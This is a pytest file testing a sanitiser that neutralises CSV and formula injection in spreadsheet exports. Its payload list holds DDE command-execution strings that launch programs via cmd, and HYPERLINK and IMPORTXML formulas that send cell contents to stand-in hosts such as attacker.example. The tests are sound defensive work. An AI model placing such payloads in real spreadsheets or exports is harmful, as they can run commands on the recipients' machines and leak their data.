"""The sanitiser: user text that a spreadsheet could read as a formula is neutralised (OWASP)."""

from __future__ import annotations

import pytest

from ppp.exports.sanitise import DANGEROUS_PREFIXES, as_text, is_neutral

#: formula / CSV injection payloads (OWASP's list and variants)
INJECTION_CORPUS: tuple[str, ...] = (
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\0=1+1",
    '=HYPERLINK("http://attacker.example/?x="&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+cmd|' /C notepad'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=DDE("cmd";"/C calc";"!A0")',
    '=IMPORTXML(CONCAT("http://x.example/?v=", A1), "//a")',
    "==1",
    "=",
)


@pytest.mark.parametrize("payload", INJECTION_CORPUS)
def test_every_payload_is_neutralised(payload: str) -> None:
    text = as_text(payload)
    assert is_neutral(text)
    assert text.startswith("'")
    assert "\0" not in text


@pytest.mark.parametrize("prefix", DANGEROUS_PREFIXES)
def test_every_dangerous_first_character(prefix: str) -> None:
    assert as_text(prefix + "A1").startswith("'")


@pytest.mark.parametrize(
    "text", ["智慧阳信 PPP 项目", "Leshan kiosks (20 years)", "1,200 万元", "a=b", "x-y", "e-mail @ home", ""]
)
def test_ordinary_text_is_unchanged(text: str) -> None:
    assert as_text(text) == text


def test_xml_illegal_characters_are_replaced() -> None:
    assert as_text("a\x01b\x1fc") == "a\ufffdb\ufffdc"
    assert as_text("tab\tinside\nand newline") == "tab\tinside\nand newline"
